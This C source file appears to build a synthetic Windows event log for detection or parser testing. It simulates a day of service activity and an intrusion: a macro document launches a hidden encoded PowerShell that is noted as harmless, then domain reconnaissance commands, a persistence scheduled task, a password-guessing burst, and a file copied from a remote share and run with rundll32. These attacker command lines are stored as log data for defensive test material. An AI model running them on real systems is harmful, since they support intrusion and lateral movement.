#include "writer_sample.h"

#include "sample_log.h"

#include <stdint.h>
#include <stdio.h>

#define SYSTEM     "S-1-5-18"
#define DOMAIN_SID "S-1-5-21-2999113167-1804152833-2457783728"
#define USER       "ivessel"
#define USER_SID   DOMAIN_SID "-1307"
#define ADMIN      "adm-rkolbe"
#define ADMIN_SID  DOMAIN_SID "-1251"

static const SampleAccount MACHINE = {SYSTEM, SAMPLE_HOST "$", SAMPLE_DOMAIN, 0x3e7};

/* What services do by themselves, for `minutes`. */
static void routine(SampleLog *log, unsigned minutes)
{
    static const struct {
        const char *image;
        const char *command_line;
    } TASKS[] = {
        {SAMPLE_SYSTEM32 "svchost.exe", SAMPLE_SYSTEM32 "svchost.exe -k netsvcs -p -s wuauserv"},
        {SAMPLE_SYSTEM32 "taskhostw.exe", "taskhostw.exe Install $(Arg0)"},
        {SAMPLE_SYSTEM32 "wbem\\WmiPrvSE.exe",
         SAMPLE_SYSTEM32 "wbem\\wmiprvse.exe -secured -Embedding"},
        {SAMPLE_SYSTEM32 "SearchProtocolHost.exe",
         SAMPLE_SYSTEM32 "SearchProtocolHost.exe Global\\UsGthrFltPipeMssGthrPipe7_"},
        {"C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
         "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" Scan -ScheduleJob"},
    };
    for (unsigned i = 0; i < minutes / 8; i++) {
        sample_wait_ms(log, 1000 * (240 + sample_pick(log, 400)));
        if (sample_pick(log, 3) == 0) {
            sample_logon(log, (SampleAccount){SYSTEM, "SYSTEM", "NT AUTHORITY", 0}, "5", "Advapi  ",
                         "Negotiate", "-");
            sample_wait_ms(log, 1);
            sample_privileges(log, (SampleAccount){SYSTEM, "SYSTEM", "NT AUTHORITY", 0x3e7});
        }
        uint32_t which = sample_pick(log, sizeof(TASKS) / sizeof(TASKS[0]));
        uint32_t process = sample_start(log, MACHINE, 0x2a4, SAMPLE_SYSTEM32 "services.exe",
                                        TASKS[which].image, TASKS[which].command_line);
        sample_wait_ms(log, 1000 + sample_pick(log, 90000));
        sample_stop(log, MACHINE, process, TASKS[which].image);
    }
}

static SampleAccount morning(SampleLog *log, const char *time)
{
    sample_at(log, time);
    sample_add(log, 4608, 0, SAMPLE_TASK_STATE, SAMPLE_AUDIT_SUCCESS, (SampleField[]){{0}});
    routine(log, 24);
    SampleAccount user = sample_logon(log, (SampleAccount){USER_SID, USER, SAMPLE_DOMAIN, 0}, "2",
                                      "User32 ", "Negotiate", "127.0.0.1");
    sample_wait_ms(log, 700);
    uint32_t shell = sample_start(log, user, 0x40c, SAMPLE_SYSTEM32 "userinit.exe",
                                  "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
    sample_wait_ms(log, 41000);
    sample_start(log, user, shell, "C:\\Windows\\explorer.exe",
                 "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                 "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"");
    return user;
}

static void run(SampleLog *log, SampleAccount who, uint32_t parent, const char *parent_image,
                const char *name, const char *command_line)
{
    char image[64];
    int length = snprintf(image, sizeof(image), SAMPLE_SYSTEM32 "%s", name);
    if (length < 0 || (size_t)length >= sizeof(image)) {
        log->failed = true;
        return;
    }
    uint32_t process = sample_start(log, who, parent, parent_image, image, command_line);
    sample_wait_ms(log, 200 + sample_pick(log, 900));
    sample_stop(log, who, process, image);
    sample_wait_ms(log, 9000 + sample_pick(log, 30000));
}

static void intrusion(SampleLog *log, SampleAccount user)
{
    static const char OFFICE[] = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    static const char SHELL[] = SAMPLE_SYSTEM32 "WindowsPowerShell\\v1.0\\powershell.exe";
    sample_at(log, "2026-05-28T10:04:11.2031447Z");
    uint32_t word = sample_start(
        log, user, 0x1b30, "C:\\Windows\\explorer.exe", OFFICE,
        "\"WINWORD.EXE\" /n \"C:\\Users\\ivessel\\Downloads\\Agenda_hearing_3_June.docm\"");
    sample_wait_ms(log, 6000);
    /* the argument is "Write-Output harmless" */
    uint32_t shell = sample_start(log, user, word, OFFICE, SHELL,
                                  "powershell.exe -nop -w hidden -enc "
                                  "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGEAcgBtAGwAZQBzAHMA");
    sample_wait_ms(log, 21000);
    run(log, user, shell, SHELL, "whoami.exe", "whoami /groups");
    run(log, user, shell, SHELL, "net.exe", "net group \"Domain Admins\" /domain");
    run(log, user, shell, SHELL, "nltest.exe", "nltest /dclist:corp.court.example");
    sample_add(
        log, 4698, 1, SAMPLE_TASK_OBJECT, SAMPLE_AUDIT_SUCCESS,
        (SampleField[]){
            {"SubjectUserSid", WRITER_SID, user.sid},
            {"SubjectUserName", WRITER_STRING, user.name},
            {"SubjectDomainName", WRITER_STRING, user.domain},
            {"SubjectLogonId", WRITER_HEX64, sample_hex(user.logon).text},
            {"TaskName", WRITER_STRING, "\\Court\\PrintHelper"},
            {"TaskContent", WRITER_STRING,
             "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\">\r\n  "
             "<Actions>\r\n    <Exec>\r\n"
             "      "
             "<Command>C:\\Users\\ivessel\\AppData\\Local\\Temp\\PrintHelper.exe</Command>\r\n"
             "    </Exec>\r\n  </Actions>\r\n</Task>"},
            {0},
        });
    sample_wait_ms(log, 2000);
    sample_stop(log, user, shell, SHELL);
}

static void night(SampleLog *log)
{
    sample_at(log, "2026-05-28T22:14:40.7712003Z");
    for (unsigned i = 0; i < 6; i++) {
        sample_failed_logon(log, ADMIN, "10.20.0.40");
        sample_wait_ms(log, 800);
    }
    SampleAccount admin = sample_logon(log, (SampleAccount){ADMIN_SID, ADMIN, SAMPLE_DOMAIN, 0},
                                       "3", "NtLmSsp ", "NTLM", "10.20.0.40");
    sample_wait_ms(log, 2);
    sample_privileges(log, admin);
    sample_wait_ms(log, 5000);
    run(log, admin, 0x2a4, SAMPLE_SYSTEM32 "services.exe", "cmd.exe",
        "cmd.exe /c copy \\\\10.20.0.40\\share\\cache.dat C:\\Windows\\Temp\\cache.dat");
    run(log, admin, 0x2a4, SAMPLE_SYSTEM32 "services.exe", "rundll32.exe",
        "rundll32.exe C:\\Windows\\Temp\\cache.dat,Start");
    sample_logoff(log, admin, "3");
}

bool writer_sample(EvtxWriter *writer)
{
    SampleLog log = {
        .writer = writer,
        .next_id = 41207,
        .next_logon = 0x1f0000,
        .next_process = 0x900,
        .random = 20260528,
    };
    SampleAccount user = morning(&log, "2026-05-28T06:02:17.5000000Z");
    routine(&log, 60);
    intrusion(&log, user);
    routine(&log, 400);
    sample_logoff(&log, user, "2");
    routine(&log, 60);
    night(&log);
    user = morning(&log, "2026-05-29T06:31:02.1180000Z");
    routine(&log, 480);
    sample_logoff(&log, user, "2");
    return !log.failed;
}
